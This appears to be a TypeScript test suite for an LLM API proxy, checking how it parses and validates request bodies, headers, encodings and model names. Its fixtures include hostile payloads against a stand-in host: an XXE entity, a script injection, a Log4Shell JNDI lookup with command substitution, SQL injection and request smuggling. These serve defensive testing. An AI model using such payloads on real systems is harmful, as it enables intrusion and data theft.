import type { Case, Family } from './case.ts';
import { modelOf, openai } from './providers.ts';
import { bearer, host, passes, post, refused, request } from './requests.ts';

const chat = `/v1/proxy/passthrough/openai${openai.chat}`;
const arrives = { provider: 'openai', line: `POST ${openai.chat}` };
const whole = JSON.stringify(openai.body);
/** The members of a call that passes, without the brace that ends them. */
const open = whole.slice(0, -1);

/** Text that is no JSON, or no JSON object. */
const unreadable: readonly (readonly [name: string, body: string, answer: string])[] = [
  ['nothing', '', '400 invalid_json'],
  ['white space', '  \r\n', '400 invalid_json'],
  ['a list', '[]', '400 invalid_request'],
  ['a list with a call', `[${whole}]`, '400 invalid_request'],
  ['a text', '"x"', '400 invalid_request'],
  ['a number', '1', '400 invalid_request'],
  ['null', 'null', '400 invalid_request'],
  ['true', 'true', '400 invalid_request'],
  ['two objects', `${whole}${whole}`, '400 invalid_json'],
  ['lines of objects', `${whole}\n${whole}\n`, '400 invalid_json'],
  ['a comma at the end', `${open},}`, '400 invalid_json'],
  ['a comment', `/* $MARK */${whole}`, '400 invalid_json'],
  ['a line comment', `${whole}//$MARK`, '400 invalid_json'],
  ['single quotes', "{'model':'gpt-4o-mini'}", '400 invalid_json'],
  ['bare names', '{model:"gpt-4o-mini"}', '400 invalid_json'],
  ['NaN', `${open},"seed":NaN}`, '400 invalid_json'],
  ['Infinity', `${open},"seed":-Infinity}`, '400 invalid_json'],
  ['a hexadecimal number', `${open},"seed":0x10}`, '400 invalid_json'],
  ['a number with a zero before', `${open},"seed":016}`, '400 invalid_json'],
  ['a number with a plus', `${open},"seed":+1}`, '400 invalid_json'],
  ['a zero byte behind', `${whole}\x00`, '400 invalid_json'],
  ['a zero byte before', `\x00${whole}`, '400 invalid_json'],
  ['a line break in a text', `${open},"user":"a\nb"}`, '400 invalid_json'],
  ['a byte order mark', `\xef\xbb\xbf${whole}`, '400 invalid_json'],
  ['a byte order mark of UTF-16', `\xff\xfe${whole}`, '400 invalid_json'],
  ['UTF-16', whole.replaceAll(/[\s\S]/g, '$&\x00'), '400 invalid_json'],
  ['a byte that is no UTF-8', `${open},"user":"\xff"}`, '400 invalid_json'],
  ['an overlong byte', `${open},"user":"\xc0\xaf"}`, '400 invalid_json'],
  ['half a character', `${open},"user":"\xe2\x82"}`, '400 invalid_json'],
  ['a surrogate as UTF-8', `${open},"user":"\xed\xa0\x80"}`, '400 invalid_json'],
  ['beyond Unicode', `${open},"user":"\xf4\x90\x80\x80"}`, '400 invalid_json'],
  ['half a call', whole.slice(0, 40), '400 invalid_json'],
  ['a hundred thousand lists', '['.repeat(100_000), '400 invalid_json'],
  ['a hundred thousand lists, closed', '['.repeat(100_000) + ']'.repeat(100_000), '400 invalid_json'],
  ['a hundred thousand objects', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000), '400 invalid_json'],
  ['three hundred levels', `${open},"metadata":${'{"a":'.repeat(300)}1${'}'.repeat(300)}}`, '400 invalid_json'],
  ['XML', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://$SINK/">]><a>&b;</a>', '400 invalid_json'],
  ['YAML', 'model: gpt-4o-mini', '400 invalid_json'],
  ['a form', 'model=gpt-4o-mini&messages=', '400 invalid_json'],
  ['MessagePack', '\x81\xa5model\xabgpt-4o-mini', '400 invalid_json'],
];

/** Two readers could take different ones of these. */
const twice: readonly string[] = [
  `${open},"model":"gpt-4o"}`,
  `{"model":"gpt-4o",${whole.slice(1)}`,
  `${open},"mod\\u0065l":"gpt-4o"}`,
  `${open},"\\u006dodel":"gpt-4o"}`,
  `${open},"max_tokens":99999}`,
  `${open},"store":true}`,
  `${open},"stream":false,"stream":true}`,
  `${open},"n":1,"n":99}`,
  `${open},"messages":[]}`,
  `${open},"metadata":{"a":{"b":[{"c":1,"c":2}]}}}`,
  `${open},"":1,"":2}`,
  `${open},"\\\\":1,"\\u005c":2}`,
  `${open},"a\\"b":1,"a\\u0022b":2}`,
];

/** What says how much a call may cost, in ways in which somebody else might understand it otherwise. */
const odd: readonly (readonly [member: string, answer: string])[] = [
  ['"max_tokens":1e400', '400 invalid_request'],
  ['"max_tokens":1e15', '400 invalid_request'],
  ['"max_tokens":-1', '400 invalid_request'],
  ['"max_tokens":0', '400 invalid_request'],
  ['"max_tokens":1.5', '400 invalid_request'],
  ['"max_tokens":"16"', '400 invalid_request'],
  ['"max_tokens":[16]', '400 invalid_request'],
  ['"max_tokens":{"a":1}', '400 invalid_request'],
  ['"max_tokens":true', '400 invalid_request'],
  ['"max_tokens":9007199254740993', '400 invalid_request'],
  ['"max_tokens":16,"max_completion_tokens":99999', '400 invalid_request'],
  ['"max_tokens":16,"n":0', '400 invalid_request'],
  ['"max_tokens":16,"n":-1', '400 invalid_request'],
  ['"max_tokens":16,"n":1e9', '400 invalid_request'],
  ['"max_tokens":16,"n":"2"', '400 invalid_request'],
  ['"max_tokens":16,"stream":"true"', '400 invalid_request'],
  ['"max_tokens":16,"stream":1', '400 invalid_request'],
  ['"max_tokens":16,"stream":[true]', '400 invalid_request'],
  ['"max_tokens":16,"service_tier":"priority"', '403 price_unknown'],
  ['"max_tokens":16,"service_tier":1', '403 price_unknown'],
  ['"max_tokens":16,"modalities":["audio"]', '403 price_unknown'],
  ['"max_tokens":16,"web_search_options":{}', '403 unbounded_cost'],
  ['"max_tokens":16,"unheard_of":1', '403 unbounded_cost'],
  ['"max_tokens":16,"__proto__":{"store":true}', '403 unbounded_cost'],
  ['"max_tokens":16,"constructor":{"prototype":{"store":true}}', '403 unbounded_cost'],
  ['"max_tokens":16,"toString":1', '403 unbounded_cost'],
];

const models: readonly (readonly [value: string, answer: string])[] = [
  ['null', '400 invalid_request'],
  ['""', '400 invalid_request'],
  ['1', '400 invalid_request'],
  ['["gpt-4o-mini"]', '400 invalid_request'],
  ['{"id":"gpt-4o-mini"}', '400 invalid_request'],
  ['" gpt-4o-mini"', '400 invalid_request'],
  ['"gpt-4o-mini "', '400 invalid_request'],
  ['"gpt-4o-mini\\u0000"', '400 invalid_request'],
  ['"gpt-4o-mini\\n"', '400 invalid_request'],
  ['"gpt-4o-mini\\u202e"', '400 invalid_request'],
  ['"gpt-4o-mini\\ud800"', '400 invalid_request'],
  [`"${'m'.repeat(201)}"`, '400 invalid_request'],
  ['"gpt-4o-mini/../gpt-4o"', '403 price_unknown'],
  ['"no-such-model"', '403 price_unknown'],
  ['"__proto__"', '403 price_unknown'],
  ['"constructor"', '403 price_unknown'],
  ['"openai/gpt-4o-mini"', '403 price_unknown'],
  ['"ft:gpt-4o-mini:$SINK"', '403 price_unknown'],
];

const json = 'Content-Type: application/json';

function sent(headers: readonly string[], body = whole): string {
  return request(`POST ${chat} HTTP/1.1`, [host, bearer, ...headers, 'Content-Length: $LENGTH'], body);
}

const types: readonly Case[] = [
  ...[
    'Content-Type: text/plain',
    'Content-Type: application/x-www-form-urlencoded',
    'Content-Type: multipart/form-data; boundary=x',
    'Content-Type: application/jsonx',
    'Content-Type: application/json-patch+json',
    'Content-Type: application/vnd.api+json',
    'Content-Type: application/json, text/plain',
    'Content-Type: text/json',
    'Content-Type: application / json',
    'Content-Type: "application/json"',
    'Content-Type:',
    'Content-Type: ;application/json',
    'X: y',
  ].map((line) => refused(line, sent([line]), '415 unsupported_media_type')),
  ...[
    'Content-Type: application/json; charset=utf-8',
    'Content-Type: APPLICATION/JSON',
    'Content-Type: application/json; charset=utf-16',
    'Content-Type: application/json;$MARK',
  ].map((line) => passes(line, sent([line]), arrives)),
  ...[
    'gzip',
    'x-gzip',
    'deflate',
    'br',
    'zstd',
    'compress',
    'identity, gzip',
    'gzip, identity',
    'IDENTITY',
    '',
    'x',
    'aws-chunked',
  ].map((coding) =>
    refused(
      `content-encoding ${JSON.stringify(coding)}`,
      sent([json, `Content-Encoding: ${coding}`]),
      '415 unsupported_encoding',
    ),
  ),
  refused(
    'a body that is packed',
    sent([json, 'Content-Encoding: gzip'], '\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03'),
    '415 unsupported_encoding',
  ),
  refused(
    'a packed body that nobody says is one',
    sent([json], '\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03'),
    '400 invalid_json',
  ),
  passes('content-encoding identity', sent([json, 'Content-Encoding: identity']), arrives),
];

/** What may stand in a text stands in it afterwards, byte for byte. */
const faithful: readonly string[] = [
  '{"role":"user","content":"\\u0000"}',
  '{"role":"user","content":"\\ud800"}',
  '{"role":"user","content":"\\u2028\\u2029"}',
  '{"role":"user","content":"\xf0\x9f\x94\x91 \xe2\x80\xae"}',
  '{"role":"user","content":"GET / HTTP/1.1\\r\\nHost: $SINK\\r\\n\\r\\n"}',
  '{"role":"user","content":"</script><script src=http://$SINK></script>"}',
  '{"role":"user","content":"data: [DONE]\\n\\n"}',
  `{"role":"user","content":"' or 1=1; drop table users; --"}`,
  '{"role":"user","content":"${jndi:ldap://$SINK/a} {{7*7}} $(id) `id`"}',
];

/** JSON within a text of JSON: the arguments of a tool's call, which are read to be translated. */
const deepArguments: readonly Case[] = ['anthropic', 'google'].map((provider) => {
  const call = { name: 'f', arguments: '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000) };
  const messages = [
    { role: 'user', content: 'Hi' },
    { role: 'assistant', content: null, tool_calls: [{ id: 'a', type: 'function', function: call }] },
    { role: 'tool', tool_call_id: 'a', content: 'x' },
  ];
  const tools = [{ type: 'function', function: { name: 'f', parameters: { type: 'object' } } }];
  const body = { provider, model: modelOf(provider), messages, tools, max_tokens: 16 };
  return refused(
    `deep arguments for ${provider}`,
    post('/v1/proxy/chat/completions', JSON.stringify(body)),
    '400 invalid_request',
  );
});

export const bodies: Family = {
  name: 'bodies',
  cases: [
    ...unreadable.map(([name, body, answer]) => refused(name, post(chat, body), answer)),
    ...twice.flatMap((body) => [
      refused(body.slice(-40), post(chat, body), '400 duplicate_member'),
      refused(
        `unified: ${body.slice(-40)}`,
        post('/v1/proxy/chat/completions', `{"provider":"openai",${body.slice(1)}`),
        '400 duplicate_member',
      ),
      refused(`drop-in: ${body.slice(-40)}`, post('/openai/v1/chat/completions', body), '400 duplicate_member'),
    ]),
    ...odd.map(([member, answer]) =>
      refused(member, post(chat, `{"model":"gpt-4o-mini","messages":[],"store":false,${member}}`), answer),
    ),
    ...models.map(([value, answer]) =>
      refused(`model ${value.slice(0, 30)}`, post(chat, `{"model":${value},"messages":[],"max_tokens":16}`), answer),
    ),
    ...types,
    ...faithful.map((message) => {
      const body = `{"model":"gpt-4o-mini","messages":[${message}],"max_tokens":16,"store":false,"service_tier":"default"}`;
      return passes(message.slice(0, 60), post(chat, body), arrives);
    }),
    ...deepArguments,
  ],
};
